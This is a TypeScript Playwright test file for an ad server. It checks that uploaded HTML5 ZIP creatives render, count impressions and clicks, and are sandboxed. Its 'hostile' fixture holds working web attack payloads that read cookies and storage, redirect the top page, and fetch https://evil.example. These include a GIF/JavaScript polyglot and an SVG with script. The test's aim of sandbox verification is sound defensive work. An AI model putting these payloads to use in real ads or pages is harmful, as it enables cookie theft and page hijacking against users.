import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchChromium } from '../support/browser/browser.ts';
import { waitUntilLive } from '../support/fixtures/book-one-banner.ts';
import { createByApi } from '../support/fixtures/call-placard.ts';
import { currentTotals } from '../support/fixtures/report-of.ts';
import { bannerFiles, writeZip, type ZipFile } from '../support/media-files/write-zip.ts';
import { type RunningPlacard, startPlacard } from '../support/process/running-placard.ts';
import { waitUntil } from '../support/process/wait-until.ts';
import { startTlsProxy, type TlsProxy } from '../support/services/tls-proxy.ts';

const target = 'https://shop.example/winter';

/** A creative that tries known attacks and reports their results. */
const hostile: readonly ZipFile[] = [
  {
    path: 'index.html',
    content: `<!doctype html><meta charset="utf-8"><title>Ad</title><b id="said">clickTag</b>
<script src="tries.js"></script><script src="photo.gif"></script><img src="drawing.svg"><iframe src="drawing.svg"></iframe>`,
  },
  {
    path: 'tries.js',
    content: `const said = {};
const attempt = (name, work) => { try { said[name] = String(work()); } catch (error) { said[name] = error.name; } };
attempt('origin', () => self.origin);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('page', () => parent.document.title);
attempt('top', () => { top.location = 'https://evil.example/'; return 'went'; });
attempt('eval', () => eval('1 + 1'));
attempt('worker', () => navigator.serviceWorker.register('tries.js') && 'asked');
const ask = (name, address) => fetch(address, { credentials: 'include', mode: 'no-cors' }).then(() => 'reached', (e) => e.name).then((how) => { said[name] = how; });
Promise.all([ask('own', 'tries.js'), ask('other', '/health'), ask('foreign', 'https://evil.example/told')]).then(() => {
  document.getElementById('said').textContent = JSON.stringify(said);
});`,
  },
  // An image that is also a script.
  { path: 'photo.gif', content: "GIF89a=1;parent.stolen='gif';document.title='stolen'//", stored: true },
  {
    path: 'drawing.svg',
    content:
      '<svg xmlns="http://www.w3.org/2000/svg" onload="top.stolen=1"><script>top.document.title="stolen";fetch("https://evil.example/svg")</script></svg>',
  },
];

describe('HTML5 creatives in Chromium', () => {
  let placard: RunningPlacard;
  let proxy: TlsProxy;
  let browser: Browser;
  let context: BrowserContext;
  let brand: { readonly id: number; readonly mediaPartnerId: number };

  beforeAll(async () => {
    placard = await startPlacard({
      PLACARD_DEMO: 'off',
      PLACARD_DELIVERY_URL: 'https://ads.example',
      PLACARD_CREATIVE_ORIGIN: 'https://creatives.example',
    });
    const partner = await createByApi<{ id: number }>(placard, '/media-partners', {
      name: 'Harbour',
      roles: ['ADVERTISER', 'INVOICE'],
    });
    brand = await createByApi(placard, '/brands', {
      name: 'Harbour',
      mediaPartnerId: partner.id,
      domains: ['shop.example'],
    });
    proxy = await startTlsProxy({
      'ads.example': { port: placard.deliveryPort },
      'creatives.example': { port: placard.deliveryPort },
      'shop.example': { html: '<!doctype html><title>Shop</title>' },
      'evil.example': { html: '<!doctype html><title>Evil</title>' },
      'page.site.example': {
        html: '<!doctype html><title>Page</title><link rel="icon" href="data:,"><h1>News</h1><div id="ad"></div>',
      },
    });
    browser = await launchChromium([{ name: '*.example', to: `127.0.0.1:${proxy.port}` }]);
    context = await browser.newContext();
    await context.addCookies([
      { name: 'debugKey', value: 'secret', domain: 'ads.example', path: '/', secure: true, sameSite: 'None' },
    ]);
  });

  afterAll(async () => {
    await browser?.close();
    await proxy?.close();
    await placard?.close();
  });

  /** Uploads a ZIP and books it on its own position, and waits until the ad delivers. */
  async function book(code: string, files: readonly ZipFile[]): Promise<{ slotName: string; bookingId: number }> {
    const publisher = await createByApi<{ id: number }>(placard, '/inventory/publisher', {
      companyName: `Press ${code}`,
    });
    const publication = await createByApi<{ id: number }>(placard, '/inventory/publication', {
      companyName: `News ${code}`,
      publisherId: publisher.id,
      timeZone: 'UTC',
    });
    const location = await createByApi<{ id: number }>(placard, '/inventory/location', {
      publicationId: publication.id,
      code,
    });
    const format = await createByApi<{ id: number }>(placard, '/inventory/format', {
      code: `rect${code}`,
      width: 300,
      height: 250,
    });
    const positionBody = { locationId: location.id, formatId: format.id };
    const position = await createByApi<{ id: number; slotName: string }>(placard, '/inventory/position', positionBody);
    const form = new FormData();
    const creative = { name: 'Winter', kind: 'html5', brandId: brand.id, formatId: format.id, clickUrl: target };
    form.set('creative', new Blob([JSON.stringify(creative)], { type: 'application/json' }));
    form.set('file', new Blob([new Uint8Array(writeZip(files))], { type: 'application/zip' }), 'winter.zip');
    const uploaded = await placard.call('POST', '/api/v1/creatives', { multipart: form });
    expect(uploaded.status, JSON.stringify(uploaded.body)).toBe(201);
    const campaign = await createByApi<{ id: number }>(placard, '/campaigns', {
      name: code,
      advertiserCompanyId: brand.mediaPartnerId,
      invoiceCompanyId: brand.mediaPartnerId,
      brandIds: [brand.id],
    });
    const booking = await createByApi<{ id: number }>(placard, '/bookings', {
      campaignId: campaign.id,
      name: code,
      type: 'display',
      startDate: new Date(Date.now() - 60_000).toISOString(),
      positionIds: [position.id],
      creatives: [{ creativeId: (uploaded.body as { id: number }).id }],
    });
    const submitted = await placard.call('POST', `/api/v1/bookings/${booking.id}/actions/submit`);
    await waitUntilLive(placard.call, Number(submitted.headers.get('placard-revision')));
    return { slotName: position.slotName, bookingId: booking.id };
  }

  /** Renders the ad like clients of `/json`: inserts its markup and requests its impression once. */
  async function show(slotName: string): Promise<Page> {
    const page = await context.newPage();
    page.setDefaultTimeout(15_000);
    await page.goto('https://page.site.example/');
    await page.evaluate(async (slot) => {
      const [ad] = await (await fetch(`https://ads.example/json/sl${slot}/`)).json();
      const positionBody = document.querySelector('#ad') as HTMLElement;
      positionBody.innerHTML = ad.tag;
      await fetch(ad.impressionCounter, { mode: 'no-cors' });
    }, slotName);
    return page;
  }

  test('a ZIP is uploaded, rendered, counted and clicked', async () => {
    const { slotName, bookingId } = await book('_zip_', bannerFiles());
    const page = await show(slotName);
    const ad = page.frameLocator('#ad iframe').locator('#ad');
    await ad.waitFor();
    await waitUntil('its script', async () => (await ad.getAttribute('data-ready')) !== null);
    expect(await ad.getAttribute('data-ready')).toMatch(/^https:\/\/ads\.example\/raylene\//);
    const style = await ad.evaluate((element) => [
      getComputedStyle(element).width,
      element.querySelector('img')?.naturalWidth,
    ]);
    expect(style).toEqual(['300px', 1]);
    const [opened] = await Promise.all([context.waitForEvent('page'), ad.click()]);
    await opened.waitForURL(target);
    expect(await opened.title()).toBe('Shop');
    expect(await page.title()).toBe('Page');
    const totals = await currentTotals(placard.call, `groupBy=booking&bookingId=${bookingId}`);
    expect(totals).toMatchObject({ impressions: 1, clicks: 1 });
    const asked = proxy.requests.filter(({ host }) => host === 'creatives.example').map(({ path }) => path);
    expect(asked.map((path) => path.replace(/^\/html5\/[0-9a-f]{64}|\?.*$/g, ''))).toEqual(
      expect.arrayContaining(['/index.html', '/js/banner.js', '/banner.css', '/images/big%20dot.png']),
    );
    await page.close();
    await opened.close();
  });

  test('a hostile creative cannot access anything', async () => {
    const { slotName } = await book('_harm_', hostile);
    const page = await show(slotName);
    const text = page.frameLocator('#ad iframe').locator('#said');
    await waitUntil('its attempts to finish', async () => (await text.textContent())?.startsWith('{') ?? false);
    expect(JSON.parse((await text.textContent()) ?? '')).toEqual({
      origin: 'null',
      cookie: 'SecurityError',
      storage: 'SecurityError',
      page: 'SecurityError',
      top: 'SecurityError',
      eval: 'EvalError',
      worker: expect.stringMatching(/Error$/),
      own: 'reached',
      other: 'TypeError',
      foreign: 'TypeError',
    });
    expect(page.url()).toBe('https://page.site.example/');
    expect(await page.title()).toBe('Page');
    expect(await page.evaluate("'stolen' in window")).toBe(false);
    expect(proxy.requests.filter(({ host }) => host === 'evil.example')).toEqual([]);
    await page.close();
  });

  test('the origin is the IP address of this machine by default', async () => {
    const plain = await startPlacard();
    const form = new FormData();
    const first = async (path: string) => ((await plain.call('GET', `/api/v1${path}`)).body as { id: number }[])[0]?.id;
    const format = await plain.call('POST', '/api/v1/inventory/format', {
      json: { code: 'zip', width: 300, height: 250 },
    });
    const creative = {
      name: 'Winter',
      kind: 'html5',
      brandId: await first('/brands?limit=1'),
      formatId: (format.body as { id: number }).id,
    };
    form.set('creative', JSON.stringify(creative));
    form.set('file', new Blob([new Uint8Array(writeZip(bannerFiles()))]), 'winter.zip');
    const { body, status } = await plain.call('POST', '/api/v1/creatives', { multipart: form });
    expect(status, JSON.stringify(body)).toBe(201);
    const url = (body as { assets: { url: string }[] }).assets[0]?.url ?? '';
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/html5\//);
    expect((await fetch(url)).status).toBe(200);
    expect((await fetch(url.replace('127.0.0.1', 'localhost'))).status).toBe(404);
    await plain.close();
  });
});
